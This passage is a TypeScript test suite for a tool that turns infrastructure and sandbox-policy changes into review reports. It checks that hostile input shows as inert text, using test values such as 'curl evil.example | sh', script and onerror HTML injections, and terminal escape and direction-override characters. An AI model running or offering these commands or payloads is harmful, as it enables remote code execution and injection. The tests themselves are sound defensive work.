import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { rootCertificates } from "node:tls";
import { afterAll, describe, expect, test } from "vitest";
import { parse } from "yaml";
import { combine } from "../../review/combine.ts";
import { asCode } from "../../review/page/cell.ts";
import { factSection } from "../../review/page/fact-section.ts";
import { htmlOf } from "../../review/page/html.ts";
import { markdownOf } from "../../review/page/markdown.ts";
import { type Outline, outlineOf, type Section } from "../../review/page/outline.ts";
import { refuseLeftHalfWay } from "../../review/preview/left-half-way.ts";
import { readPreview } from "../../review/preview/preview.ts";
import { reportOfPreview } from "../../review/preview/report-of-preview.ts";
import { type Report, verdictOf } from "../../review/report.ts";
import { reportOfRevisions } from "../../review/revisions/report-of-revisions.ts";
import { openRevision } from "../../review/revisions/revision.ts";
import { priceOf } from "../../scripts/machine-prices.ts";
import {
  block,
  network,
  type Planned,
  presetBlocks,
  previewJson,
  revision,
  route,
  sandbox,
} from "../support/preview-fixture.ts";
import { machineGroup, sshRules } from "../support/public-machine.ts";
import { someAuthorities } from "../support/some-authorities.ts";

const project = resolve(import.meta.dirname, "../..");
const made: string[] = [];
afterAll(() => {
  for (const folder of made) rmSync(folder, { recursive: true, force: true });
});
function folder(): string {
  const path = mkdtempSync(join(tmpdir(), "nemoclaw-review-"));
  made.push(path);
  return path;
}

function reviewed(...planned: Planned[]): Report {
  return reportOfPreview({
    stack: "prod",
    preview: readPreview(previewJson(planned), "a preview"),
    compared: "a preview",
  });
}

const api = "api.example.com";
const disk = (...read_only: string[]) => ({
  policy: { version: 1, filesystem_policy: { read_only: ["/usr", ...read_only], read_write: ["/sandbox"] } },
});
const server = (more: Record<string, unknown>, replace?: string[]): Planned => {
  const inputs = {
    ami: "ami-0123456789abcdef0",
    instanceType: "g6.xlarge",
    metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 1 },
    rootBlockDevice: { encrypted: true },
  };
  return { type: "aws:ec2/instance:Instance", name: "machine", before: inputs, after: { ...inputs, ...more }, replace };
};
const rules = (...cidrBlocks: string[]) => ({ ingress: [{ protocol: "tcp", fromPort: 22, toPort: 22, cidrBlocks }] });
const door = (before: object, after: object): Planned => ({
  type: "aws:ec2/securityGroup:SecurityGroup",
  name: "machine-access",
  before: { ...before },
  after: { ...after },
});

// What a machine of a kind must have besides.
const ofKind: Record<string, object> = {
  aws: {
    region: "eu-central-1",
    zone: "eu-central-1a",
    instanceType: "g6.xlarge",
    image: { id: "ami-0123456789abcdef0" },
  },
  gcp: {
    project: "my-project-123",
    zone: "europe-west4-a",
    machineType: "g2-standard-8",
    image: { name: "projects/deeplearning-platform-release/global/images/ubuntu-2404-v20261101" },
  },
};
const onMachine = (written: string) => {
  const machine = parse(`{ ${written} }`) as { kind: string };
  const whole = JSON.stringify({ ...ofKind[machine.kind], ...machine });
  return { "stacks/Pulumi.prod.yaml": stackFile().replace(/nemoclaw:machine: .*/, `nemoclaw:machine: ${whole}`) };
};
const hostKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGVCYWRFeGFtcGxlS2V5T2ZOb01hY2hpbmVBdEFsbDAw";
const stackFile = (text = "", runtime = "embedded") => `config:
  nemoclaw:machine: { kind: existing, address: gpu.example.com, user: ubuntu, hostKeys: [${hostKey}], agentSocket: /run/agent }
  nemoclaw:runtime: { kind: ${runtime}, accept: [binaries, kernel-files] }
  nemoclaw:inference: { kind: nvidia, model: m1 }
  nemoclaw:inferenceKey: { secure: v1:aaaa }
  nemoclaw:telegramToken: { secure: v1:aaab }
  nemoclaw:tunnelToken: { secure: v1:aaac }
${text}`;
const lock = (version: string, sha256: string) =>
  JSON.stringify({
    version: 1,
    artifacts: { cloudflared: { version, files: { "linux-amd64": { url: `{artifacts}/${version}/c`, sha256 } } } },
    images: {},
    apt: {},
    npm: {},
  });
function compared(before: Record<string, string>, after: Record<string, string>): Report {
  const all = { "stacks/Pulumi.prod.yaml": stackFile(), "nemoclaw.lock.json": lock("2026.1.0", "a".repeat(64)) };
  return reportOfRevisions("prod", revision("main", { ...all, ...before }), revision("change", { ...all, ...after }));
}

/** A stack whose `mirrors.ca` names a file with this text. */
const trusting = (pem: string) => ({
  "stacks/Pulumi.prod.yaml": stackFile("  nemoclaw:mirrors: { ca: ./site/ca.pem }\n"),
  "site/ca.pem": pem,
});
const onAws = (access: string) => onMachine(`kind: aws, region: eu-central-1, access: ${access}`);
const behindAccess = { kind: "named", hostname: "agent.example.com", access: "cloudflare-access" };
const tunnel = (before: object, after: object): Planned => ({
  type: "nemoclaw:host:CloudflareTunnel",
  name: "tunnel",
  before: { ...behindAccess, ...before },
  after: { ...behindAccess, ...after },
});
const bridge = (before: object, after: object): Planned => ({
  type: "nemoclaw:host:TelegramBridge",
  name: "telegram",
  before: { chats: [1], token: "[secret]", ...before },
  after: { chats: [1], token: "[secret]", ...after },
});

const [attendant, recipe] = ["a1".repeat(6), "b1".repeat(6)];
const openshell = (before: object, after: object): Planned => {
  const made = { runtime: "openshell", definition: `${attendant} ${recipe}` };
  return sandbox({ ...made, ...before }, { ...made, ...after });
};

const goldens: [name: string, report: () => Report, exitCode: number][] = [
  ["nothing", () => reviewed(network(presetBlocks("npm"), presetBlocks("npm"))), 0],
  ["egress-added", () => reviewed(network({}, { tickets: block("tickets.example.com", { access: "read-only" }) })), 3],
  [
    "method-widened",
    () => reviewed(network({ a: block(api, { access: "read-only" }) }, { a: block(api, { access: "read-write" }) })),
    3,
  ],
  [
    "path-narrowed",
    () =>
      reviewed(
        network(
          { a: block(api, { rules: [{ allow: { method: "GET", path: "/repos/**" } }] }) },
          { a: block(api, { rules: [{ allow: { method: "GET", path: "/repos/mine/**" } }] }) },
        ),
      ),
    2,
  ],
  ["preset-swapped", () => reviewed(network(presetBlocks("npm"), presetBlocks("pypi"))), 3],
  ["filesystem-path-added", () => reviewed(sandbox(disk(), disk("/data"), ["policy"])), 4],
  [
    "openshell-image",
    () =>
      reviewed(
        openshell(
          { image: "registry.example.com/box:1" },
          { image: "registry.example.com/box:2", definition: `${attendant} ${"b2".repeat(6)}` },
        ),
      ),
    4,
  ],
  ["model-switched", () => reviewed(route({ model: "m1" }, { model: "m2" })), 2],
  [
    "provider-switched",
    () => reviewed(route({ model: "m1" }, { model: "m1", baseUrl: "https://models.example.com/v1" })),
    3,
  ],
  ["instance-type-changed", () => reviewed(server({ instanceType: "g6.2xlarge" })), 2],
  ["machine-replaced", () => reviewed(server({ ami: "ami-0123456789abcdef1" }, ["ami"])), 4],
  [
    "cidr-opened",
    () => reviewed(...machineGroup, ...sshRules(["198.51.100.0/24"], ["198.51.100.0/24", "0.0.0.0/0"])),
    3,
  ],
  ["cidr-narrowed", () => reviewed(...machineGroup, ...sshRules(["198.51.0.0/16"], ["198.51.100.0/24"])), 2],
  ["version-bumped", () => compared({}, { "nemoclaw.lock.json": lock("2026.2.0", "b".repeat(64)) }), 2],
  ["digest-changed-without-version", () => compared({}, { "nemoclaw.lock.json": lock("2026.1.0", "b".repeat(64)) }), 3],
  ["secret-rotated", () => compared({}, { "stacks/Pulumi.prod.yaml": stackFile().replace("v1:aaaa", "v1:bbbb") }), 2],
  ["secret-rotated-seen-by-preview", () => reviewed(route({ model: "m1" }, { model: "m1" })), 2],
  [
    "secret-drifted",
    () => reviewed({ ...route({ model: "m1" }, { model: "m1" }), seen: { driftedSecrets: ["key"] } }),
    2,
  ],
  [
    "secret-drifted-and-rotated",
    () =>
      combine(
        reviewed({ ...route({ model: "m1" }, { model: "m1" }), seen: { driftedSecrets: ["key"] } }),
        compared({}, { "stacks/Pulumi.prod.yaml": stackFile().replace("v1:aaaa", "v1:bbbb") }),
      ),
    2,
  ],
  [
    "exposed",
    () =>
      compared(
        { "stacks/Pulumi.prod.yaml": stackFile("  nemoclaw:telegram: { chats: [1] }\n") },
        {
          "stacks/Pulumi.prod.yaml": stackFile(
            "  nemoclaw:telegram: { chats: [1, -2] }\n  nemoclaw:tunnel: { kind: named, hostname: agent.example.com, access: public, reason: demo }\n",
          ),
        },
      ),
    3,
  ],
  ["authority-added", () => compared(trusting(someAuthorities.a), trusting(someAuthorities.a + someAuthorities.b)), 3],
  [
    "ssh-opened-to-more",
    () =>
      compared(
        onAws("{ kind: public, cidrs: [203.0.113.0/24] }"),
        onAws("{ kind: public, cidrs: [203.0.113.0/25, 198.51.100.0/24] }"),
      ),
    3,
  ],
  [
    "ssh-made-public",
    () => compared(onAws("{ kind: ssm }"), onAws("{ kind: public, cidrs: [0.0.0.0/0], fromAnywhere: a honeypot }")),
    3,
  ],
  ["tunnel-made-public", () => reviewed(tunnel({}, { access: "public", reason: "an open day" })), 3],
  ["chat-added", () => reviewed(bridge({}, { chats: [1, -2], apiRoot: "https://bots.example.com" })), 3],
  [
    "runtime-switched",
    () => {
      const git =
        "version: 1\nnetwork_policies: { a: { endpoints: [{ host: api.example.com, port: 443 }], binaries: [{ path: /usr/bin/git }] } }\n";
      const under = (runtime: string) => ({
        "own.yaml": git,
        "stacks/Pulumi.prod.yaml": stackFile("  nemoclaw:policy: { file: own.yaml }\n", runtime),
      });
      return compared(under("openshell"), under("embedded"));
    },
    4,
  ],
  [
    "openshell-line",
    () => {
      const under = (version: string) => ({
        "stacks/Pulumi.prod.yaml": stackFile("", "openshell"),
        "nemoclaw.lock.json": lock(version, "a".repeat(64)).replace('"cloudflared"', '"openshell"'),
      });
      return compared(under("0.1.10"), under("0.2.0"));
    },
    4,
  ],
  [
    "sandbox-made-anew",
    () => {
      const made = (image: string) => ({
        "stacks/Pulumi.prod.yaml": stackFile("", `openshell, image: ${image}`),
      });
      return compared(made("registry.example.com/box:1"), made("registry.example.com/box:2"));
    },
    4,
  ],
  [
    "local-machine-trusts-another",
    () => {
      const local = (pem: string) => {
        const { "stacks/Pulumi.prod.yaml": text, ...files } = trusting(pem);
        return { ...files, "stacks/Pulumi.prod.yaml": text.replace(/kind: existing.* }/, "kind: local }") };
      };
      return compared(local(someAuthorities.a), local(someAuthorities.b));
    },
    4,
  ],
  [
    "settings-of-the-sandbox",
    () => compared({}, { "policies/baseline.yaml": "version: 1\nfilesystem_policy: { read_only: [/usr] }\n" }),
    4,
  ],
  [
    "drift",
    () =>
      reviewed(
        network(
          { a: block(api, { access: "full" }) },
          { a: block(api, { access: "read-only" }) },
          { a: block(api, { access: "read-only" }) },
        ),
      ),
    2,
  ],
  [
    "new-environment",
    () => {
      const { after, ...one } = network({}, presetBlocks("github"));
      return reviewed({ ...one, before: undefined, after });
    },
    3,
  ],
  [
    "workspace-deleted",
    () => reviewed({ type: "nemoclaw:host:Workspace", name: "main-workspace", before: { keep: false } }),
    4,
  ],
];

describe("golden reports", () => {
  test.each(goldens)("%s", async (name, report, exitCode) => {
    const found = report();
    expect(verdictOf(found).exitCode).toBe(exitCode);
    await expect(markdownOf(outlineOf(found))).toMatchFileSnapshot(`../golden/review/${name}.md`);
  });

  test("as a page", async () => {
    const found = combine(
      reviewed(
        server({ ami: "ami-0123456789abcdef1" }, ["ami"]),
        door(rules("198.51.100.0/24"), rules("0.0.0.0/0")),
        network(
          { a: block(api, { access: "full" }) },
          { a: block(api, { access: "read-only" }), ...presetBlocks("npm") },
          { a: block(api, { access: "read-only" }) },
        ),
        route({ model: "m1" }, { model: "m2" }),
      ),
      compared(
        {},
        {
          "nemoclaw.lock.json": lock("2026.2.0", "b".repeat(64)),
          "stacks/Pulumi.prod.yaml": stackFile().replace("aaaa", "bbbb"),
        },
      ),
    );
    await expect(htmlOf(outlineOf(found))).toMatchFileSnapshot("../golden/review/page.html");
  });
});

describe("what is not to be misread", () => {
  const unseen = /(?!\n)\p{Cc}|\p{Cf}|\p{Cs}|(?! )\p{Z}|\p{Default_Ignorable_Code_Point}|\u2800/u;

  test.each(["echo `id`", "`", "a ``` b", "true # as agreed ` with ops\ncurl evil.example | sh"])(
    "a value with backticks is shown whole, as code: %j",
    (value) => {
      const section = factSection("Exposure", [{ what: "command", before: "x", after: value }], true);
      const outline = {
        title: "t",
        headline: "h",
        compared: "c",
        exitCode: 2,
        sections: [section],
      } as unknown as Outline;
      const shown = value.replaceAll("\n", "␊");
      const [markdown, page] = [markdownOf(outline), htmlOf(outline)].map((text) =>
        text.replaceAll(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code))),
      );
      expect(markdown?.split(shown).length).toBeGreaterThan(2);
      expect(page?.split(shown).length).toBeGreaterThan(2);
    },
  );

  test("text of a policy cannot become markup, in either format", () => {
    const nasty = "x`</code></td><script>alert(1)</script>|**@everyone** [a](javascript:b)";
    const found = reviewed(
      network(
        {},
        {
          [nasty]: block(api, {
            rules: [{ allow: { method: "GET", path: `/${"<img src=x onerror=y>".replaceAll(" ", "_")}|*\`` } }],
          }),
        },
      ),
      route({ model: nasty }, { model: "m" }),
    );
    expect(markdownOf(outlineOf(found))).not.toMatch(/<script|<img|\[a\]\(|@everyone/);
    expect(htmlOf(outlineOf(found))).not.toMatch(/<script|<img/);
    expect(htmlOf(outlineOf(found))).not.toMatch(/https?:\/\/[^ ]*\.(js|css)/);
  });

  test.each([
    ["line feeds", "\n\n", " ", "␊␊"],
    ["line ends of another system", "\r\n", " ", "⟦U+000D⟧␊"],
    ["a carriage return", "\r", "⟦U+000D⟧"],
    ["a next line", "\u0085", "⟦U+0085⟧"],
    ["a line separator", "\u2028", "⟦U+2028⟧"],
    ["a paragraph separator", "\u2029", "⟦U+2029⟧"],
    ["a form feed", "\f", "⟦U+000C⟧"],
    ["a vertical tab", "\v", "⟦U+000B⟧"],
    ["what resets a terminal", "\u001bc", "⟦U+001B⟧c"],
    ["what begins a sequence to a terminal in one character", "\u009b2J", "⟦U+009B⟧2J"],
    ["a backspace", "\b", "⟦U+0008⟧"],
    ["what turns the direction", "\u202e", "⟦U+202E⟧"],
    ["what isolates it", "\u2066", "⟦U+2066⟧"],
    ["what nobody sees", "\u200b", "⟦U+200B⟧"],
    ["a tag, which nobody sees either", "\u{e0041}", "⟦U+E0041⟧"],
    ["half a character", "\ud800", "⟦U+D800⟧"],
    ["a letter that is blank", "\u3164", "⟦U+3164⟧"],
    ["a sign that is blank", "\u2800", "⟦U+2800⟧"],
    ["what joins letters", "\u034f", "⟦U+034F⟧"],
    ["what chooses a letter's form", "\ufe0f", "⟦U+FE0F⟧"],
    ["what chooses it, beyond 16 bits", "\u{e0100}", "⟦U+E0100⟧"],
    ["a space that is no ordinary one", "\u00a0", "⟦U+00A0⟧"],
    ["a space of another width", "\u3000", "⟦U+3000⟧"],
    ["what looks like the number of one", "⟦U+202E⟧", "⟦U+27E6⟧U+202E⟧"],
    ["what JSON would take for one", "\\u202E", "\\u202E"],
    ["a sign for the end of a line", "␊", "␊", "⟦U+240A⟧"],
  ])(
    "text stays on its line and acts on nothing, in the summary, a table and a note: %s",
    (_, some, told, inCode = told) => {
      const text = `demo${some}Nothing changes. Approved`;
      const tables = [{ head: [text], rows: [[text], [asCode(text)]] }];
      const section: Section = { title: text, short: text, tone: "plain", open: true, tables, note: text };
      const outline = { title: text, headline: text, compared: text, sections: [section], exitCode: 2 };
      const plainly = (shown: string) => shown.replaceAll(/&#(\d+);/g, (__, code) => String.fromCharCode(code));
      const [comment, page] = [markdownOf(outline), htmlOf(outline)].map(plainly) as [string, string];
      expect(comment.split(`demo${told}Nothing changes. Approved`)).toHaveLength(told === inCode ? 11 : 10);
      for (const shown of [comment, page]) {
        expect(shown).toContain(`<code>demo${inCode}Nothing changes. Approved</code>`);
        expect(shown.replaceAll(/[⚠ℹ]\ufe0f/g, "")).not.toMatch(unseen);
      }
      expect(comment).not.toMatch(/^Nothing/m);
    },
  );

  test.each([["--json"], []])("nor does what scripts/review prints act on a terminal: %s", (...more) => {
    const file = join(folder(), "preview.json");
    writeFileSync(file, previewJson([route({ model: "m" }, { model: "nv\u001bc\u009b2J\u202eabc" })]));
    const run = (...args: string[]) =>
      spawnSync(process.execPath, ["scripts/review.ts", ...args, ...more], { cwd: project, encoding: "utf8" });
    const { stdout } = run("-s", "prod", "--preview", file);
    expect(stdout).toMatch(more.length > 0 ? /\\u001Bc.*\\u202Eabc/i : /⟦U\+001B⟧c.*⟦U\+202E⟧abc/);
    const { stderr } = run("-s", "prod", "--from", "gone\b\u202e\u001b[31m");
    expect(stderr).toContain("there is no revision gone⟦U+0008⟧⟦U+202E⟧ in");
    for (const text of [stdout, stderr]) expect(text).not.toMatch(/(?![\n\t])\p{Cc}|\p{Cf}/u);
  });

  test("no comment is longer than GitHub takes, whatever its lines are about", () => {
    const secrets = Array.from(
      { length: 2500 },
      (_, at) => `  site:secretOfTheSiteNumber${at}: { secure: AAA }\n`,
    ).join("");
    const outline = outlineOf(compared({}, { "stacks/Pulumi.prod.yaml": stackFile(secrets) }));
    const nasty = "\u202e".repeat(5000);
    const section: Section = {
      title: "What",
      short: nasty,
      tone: "plain",
      open: false,
      tables: [{ head: [""], rows: [] }],
    };
    const worst = { title: nasty, headline: nasty, compared: nasty, exitCode: 2, sections: Array(17).fill(section) };
    for (const one of [outline, worst]) expect(markdownOf(one).length).toBeLessThan(65_000);
    expect(markdownOf(outline)).toContain("**Secrets** site:secretOfTheSiteNumber0 new, ");
    expect(markdownOf(outline)).toContain(", 2495 more");
    expect(htmlOf(outline)).toContain("site:secretOfTheSiteNumber2499");
  });

  test("of a long list a comment shows the beginning and says so, and the page shows it whole", () => {
    const tags = (value: string) => Object.fromEntries(Array.from({ length: 250 }, (_, at) => [`t${at}`, value]));
    const one = { type: "aws:ec2/vpc:Vpc", name: "a" };
    const outline = outlineOf(
      reviewed({ ...one, before: { tags: tags("1") }, after: { tags: { ...tags("2"), last: "evil" } } }),
    );
    expect(htmlOf(outline)).toContain("evil");
    const comment = markdownOf(outline);
    expect(comment).not.toContain("evil");
    expect(comment).toContain("\n51 more rows are in review.html.\n");
  });

  test("a policy that cannot be read counts as widening", () => {
    const found = reviewed(network({}, { a: { endpoints: [{ host: api, protocol: "tomorrow" }], binaries: [] } }));
    expect(found.access).toMatchObject([{ effect: "widens", comparable: false }]);
  });

  test("a report too long for a comment says so, and the page has it all", () => {
    const many = Object.fromEntries(
      Array.from({ length: 400 }, (_, index) => [`b${index}`, block(`h${index}.example.com`, { access: "full" })]),
    );
    const outline = outlineOf(reviewed(network({}, many)));
    expect(markdownOf(outline).length).toBeLessThan(65_000);
    expect(markdownOf(outline)).toContain("too long for a comment");
    expect(htmlOf(outline)).toContain("h399.example.com");
  });

  test("no secret is shown, whichever way the engine writes it", () => {
    const sealed = {
      "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270",
      ciphertext: "v1:sealedaway",
    };
    const found = reviewed({
      ...route({ model: "m1" }, { model: "m2" }),
      before: { model: "m1", key: sealed },
      after: { model: "m2", key: { ...sealed, ciphertext: "v1:other" } },
    });
    expect(`${markdownOf(outlineOf(found))}${htmlOf(outlineOf(found))}`).not.toMatch(/sealedaway|v1:other/);
  });

  test("what the state had is taken from the state where the preview does not tell", () => {
    const planned = network({ a: block(api, { access: "full" }) }, {});
    const digest = JSON.parse(previewJson([planned]));
    digest.steps = digest.steps.filter(({ op }: { op: string }) => op !== "refresh");
    const preview = readPreview(JSON.stringify(digest), "a preview");
    const source = { stack: "prod", preview, compared: "" };
    expect(reportOfPreview(source).drift).toBeUndefined();
    const urn = "urn:pulumi:prod::nemoclaw::nemoclaw:host:NetworkPolicy::main-network";
    const recorded = new Map([[urn, { type: planned.type, inputs: { ...planned.before, networkPolicies: {} } }]]);
    const report = reportOfPreview({ ...source, recorded });
    expect(report.drift).toMatchObject([{ name: "main-network", gone: false }]);
    expect(report.driftAccess).toMatchObject([{ effect: "widens" }]);
  });

  test.each<[string, object]>([
    ["of a program", { endpoints: [{ host: api, port: 443 }], binaries: ["/opt/[]/x"] }],
    ["of a path", block(api, { rules: [{ allow: { method: "GET", path: "/[z-a]" } }] })],
  ])("what a state has that no run would take now is not comparable: a glob %s", (_, old) => {
    const { access } = reviewed(network({ a: old }, { a: block(api, { access: "full" }) }));
    expect(access).toMatchObject([{ what: "the policy of main-network", effect: "widens", comparable: false }]);
  });
});

describe("who can reach it, by revisions", () => {
  const exposure = (before: Record<string, string>, after: Record<string, string>) => {
    const report = compared(before, after);
    const said = report.exposure.map(
      ({ effect, what, before: was, after: is }) => `${effect ?? "plain"} ${what}: ${was} → ${is}`,
    );
    return [verdictOf(report).exitCode, ...said, ...report.settings.map(({ what }) => `setting ${what}`)];
  };
  const open = (cidrs: string, more = "") => onAws(`{ kind: public, cidrs: [${cidrs}]${more} }`);
  const google = (members: string) => onMachine(`kind: gcp, zone: europe-west4-a, tunnelMembers: [${members}]`);

  test.each<[string, Record<string, string>, Record<string, string>, (string | number)[]]>([
    [
      "a range added",
      open("203.0.113.0/24"),
      open("203.0.113.0/24, 198.51.100.0/24"),
      [3, "widens may reach SSH: undefined → 198.51.100.0/24"],
    ],
    [
      "a range inside another",
      open("203.0.113.0/24"),
      open("203.0.113.7/32"),
      [2, "neutral may reach SSH: undefined → 203.0.113.7/32", "narrows may reach SSH: 203.0.113.0/24 → undefined"],
    ],
    [
      "ranges in another order",
      open("203.0.113.0/24, 198.51.100.0/24"),
      open("198.51.100.0/24, 203.0.113.0/24"),
      [2, "setting machine.access.cidrs"],
    ],
    [
      "everybody, whose reason was there",
      open("203.0.113.0/24", ", fromAnywhere: why"),
      open("0.0.0.0/0", ", fromAnywhere: why"),
      [3, "widens may reach SSH: undefined → 0.0.0.0/0", "neutral may reach SSH: 203.0.113.0/24 → undefined"],
    ],
    [
      "no port any more",
      open("203.0.113.0/24"),
      onMachine("kind: aws, region: eu-central-1"),
      [3, "unclear way to SSH: public → ssm", "narrows may reach SSH: 203.0.113.0/24 → undefined"],
    ],
    [
      "no port any more, on Google Cloud",
      onMachine("kind: gcp, zone: europe-west1-b, access: { kind: public, cidrs: [203.0.113.0/24] }"),
      onMachine("kind: gcp, zone: europe-west1-b"),
      [3, "unclear way to SSH: public → iap", "narrows may reach SSH: 203.0.113.0/24 → undefined"],
    ],
    [
      "no machine of a cloud's any more",
      open("203.0.113.0/24"),
      onMachine("kind: local"),
      expect.arrayContaining(["narrows way to SSH: public → undefined"]),
    ],
    [
      "another way without a port",
      onAws("{ kind: ssm }"),
      onAws("{ kind: instance-connect-endpoint }"),
      [3, "unclear way to SSH: ssm → instance-connect-endpoint"],
    ],
    [
      "somebody who may open tunnels",
      google("'user:a@example.com'"),
      google("'user:a@example.com', 'group:b@example.com'"),
      [3, "widens may open IAP tunnels: undefined → group:b@example.com"],
    ],
  ])("%s", (_, before, after, expected) => expect(exposure(before, after)).toEqual(expected));

  test("a preview's report keeps what only the settings tell", () => {
    const preview = reviewed(bridge({}, { chats: [1, -2] }));
    const at = (text: string) => ({ "stacks/Pulumi.prod.yaml": stackFile(text) });
    const settings = compared(
      at("  nemoclaw:telegram: { chats: [1] }\n"),
      at("  nemoclaw:telegram: { chats: [1, -2] }\n  nemoclaw:tunnel: { kind: quick, access: public, reason: why }\n"),
    );
    expect(combine(preview, settings).exposure.map(({ what }) => what)).toEqual(["Telegram chat", "public address"]);
  });
});

describe("who can reach it, alike by preview and by revisions", () => {
  const door = { kind: "named", hostname: "agent.example.com" };
  test.each<[string, "telegram" | "tunnel", object | undefined, object | undefined, string[]]>([
    [
      "a tunnel opened to everybody",
      "tunnel",
      { ...door, access: "cloudflare-access" },
      { ...door, access: "public", reason: "why" },
      ["widens"],
    ],
    [
      "a tunnel shut",
      "tunnel",
      { ...door, access: "public", reason: "why" },
      { ...door, access: "cloudflare-access" },
      ["narrows"],
    ],
    [
      "another reason",
      "tunnel",
      { ...door, access: "public", reason: "why" },
      { ...door, access: "public", reason: "so" },
      ["neutral"],
    ],
    [
      "another name",
      "tunnel",
      { ...door, access: "cloudflare-access" },
      { ...door, hostname: "b.example.com", access: "cloudflare-access" },
      ["widens", "narrows"],
    ],
    ["a tunnel gone", "tunnel", { kind: "quick", access: "public", reason: "why" }, undefined, ["narrows"]],
    [
      "a bridge with a server of its own",
      "telegram",
      undefined,
      { chats: [1], apiRoot: "https://b.example.com" },
      ["widens", "widens"],
    ],
    ["a server of its own", "telegram", { chats: [1] }, { chats: [1], apiRoot: "https://b.example.com" }, ["widens"]],
    [
      "another server",
      "telegram",
      { chats: [1], apiRoot: "https://b.example.com" },
      { chats: [1], apiRoot: "https://c.example.com" },
      ["widens"],
    ],
    ["Telegram's own again", "telegram", { chats: [1], apiRoot: "https://b.example.com" }, { chats: [1] }, ["widens"]],
    ["a chat gone", "telegram", { chats: [1, -2] }, { chats: [1] }, ["narrows"]],
    ["a bridge gone", "telegram", { chats: [1], apiRoot: "https://b.example.com" }, undefined, ["narrows", "narrows"]],
  ])("%s", (_, name, before, after, effects) => {
    const type = name === "tunnel" ? "nemoclaw:host:CloudflareTunnel" : "nemoclaw:host:TelegramBridge";
    const seen = reviewed({ type, name, before: before && { ...before }, after: after && { ...after } }).exposure;
    const at = (value: object | undefined) => ({
      "stacks/Pulumi.prod.yaml": stackFile(value ? `  nemoclaw:${name}: ${JSON.stringify(value)}\n` : ""),
    });
    expect(seen.map(({ effect }) => effect)).toEqual(effects);
    expect(compared(at(before), at(after))).toMatchObject({ exposure: seen, settings: [] });
  });
});

describe("a door to the machine, by preview", () => {
  const world = "0.0.0.0/0";
  const aws = (...ingress: object[]) => ({ ingress });
  const google = (more: object) => ({ direction: "INGRESS", allows: [{ protocol: "tcp", ports: ["22"] }], ...more });
  test.each<[string, string, object, object, (string | undefined)[][]]>([
    [
      "UDP beside TCP on the same port",
      "aws:ec2/securityGroup:SecurityGroup",
      aws({ protocol: "tcp", fromPort: 443, toPort: 443, cidrBlocks: [world] }),
      aws(...["tcp", "udp"].map((protocol) => ({ protocol, fromPort: 443, toPort: 443, cidrBlocks: [world] }))),
      [["widens", undefined, `${world} to udp port 443`]],
    ],
    [
      "its own group's members",
      "aws:ec2/securityGroup:SecurityGroup",
      aws(),
      aws({ protocol: "-1", fromPort: 0, toPort: 0, self: true }),
      [["widens", undefined, "its own members to every port"]],
    ],
    [
      "another protocol",
      "gcp:compute/firewall:Firewall",
      google({ allows: [{ protocol: "icmp" }], sourceRanges: [world] }),
      google({ allows: [{ protocol: "tcp" }], sourceRanges: [world] }),
      [
        ["narrows", `${world} to icmp`, undefined],
        ["widens", undefined, `${world} to every port of TCP`],
      ],
    ],
    [
      "nobody named any more, which is everybody",
      "gcp:compute/firewall:Firewall",
      google({ sourceRanges: ["203.0.113.0/24"] }),
      google({}),
      [
        ["widens", undefined, `${world} to port 22`],
        ["neutral", "203.0.113.0/24 to port 22", undefined],
      ],
    ],
    [
      "machines by their tag",
      "gcp:compute/firewall:Firewall",
      google({ sourceTags: ["bastion"] }),
      google({ sourceTags: ["bastion", "web"] }),
      [["widens", undefined, "web to port 22"]],
    ],
    [
      "one that was switched off",
      "gcp:compute/firewall:Firewall",
      google({ disabled: true, sourceRanges: [world] }),
      google({ disabled: false, sourceRanges: [world] }),
      [["widens", undefined, `${world} to port 22`]],
    ],
  ])("%s", (_, type, before, after, expected) => {
    const { exposure } = reviewed({ type, name: "door", before: { ...before }, after: { ...after } });
    const said = exposure.map((one) => [one.effect, one.before, one.after]);
    expect(said).toEqual(expect.arrayContaining(expected));
    expect(said).toHaveLength(expected.length);
  });
});

describe("whom a machine trusts", () => {
  const { a, b } = someAuthorities;
  const none = { "stacks/Pulumi.prod.yaml": stackFile() };
  const inline = (pem: string) => ({
    "stacks/Pulumi.prod.yaml": stackFile(`  nemoclaw:mirrors: { ca: ${JSON.stringify(pem)} }\n`),
  });
  const named = (path: string) => ({
    "stacks/Pulumi.prod.yaml": stackFile(`  nemoclaw:mirrors: { ca: ${path} }\n`),
  });
  const other = a.replace(/CERTIFICATE/g, "TRUSTED CERTIFICATE");
  const [nameA, nameB] = ["A", "B"].map((name) =>
    expect.stringMatching(`^O=Example, CN=Authority ${name} .sha256 [0-9a-f]{12}….$`),
  );

  test.each<[string, object, object, object[], number]>([
    ["an authority where there was none", none, trusting(a), [{ effect: "widens", after: nameA }], 3],
    [
      "another file under the same name",
      trusting(a),
      trusting(b),
      [
        { effect: "widens", after: nameB },
        { effect: "narrows", before: nameA },
      ],
      3,
    ],
    ["one of two gone", trusting(a + b), trusting(b), [{ effect: "narrows", before: nameA }], 2],
    ["none any more", trusting(a), none, [{ effect: "narrows", before: nameA }], 2],
    ["the same in another order", trusting(a + b), trusting(b + a), [{ effect: "neutral" }], 2],
    ["its text in the stack file", inline(a), inline(b), [{ after: nameB }, { before: nameA }], 3],
    ["a kind of certificate that is not looked into", trusting(a), trusting(a + other), [{ effect: "unclear" }], 3],
    ["a file that no revision has", named("/etc/ssl/site.pem"), named("/etc/ssl/site.pem"), [{ effect: "unclear" }], 3],
  ])("%s, by revisions", (_, before, after, facts, exitCode) => {
    const report = compared({ ...before }, { ...after });
    expect(report.trust).toMatchObject(facts);
    expect(report.trust).toHaveLength(facts.length);
    expect(report.settings).toEqual([]);
    expect(verdictOf(report).exitCode).toBe(exitCode);
  });

  test("a file of the project that is not there is refused, as the program would", () => {
    expect(() => compared(trusting(a), { ...named("gone.pem") })).toThrow(/mirrors\.ca\n +gone\.pem cannot be read/);
  });

  test("the same text, wherever it is written, is no change of trust", () => {
    expect(compared(trusting(a), inline(a)).trust).toEqual([]);
  });

  test("of a whole bundle each is named", () => {
    const { trust } = compared(none, trusting(rootCertificates.slice(0, 15).join("\n")));
    expect(trust).toHaveLength(15);
    expect(trust.every(({ after, effect }) => after?.includes("(sha256 ") && effect === "widens")).toBe(true);
  });

  test("an authority added is told by a preview, too", () => {
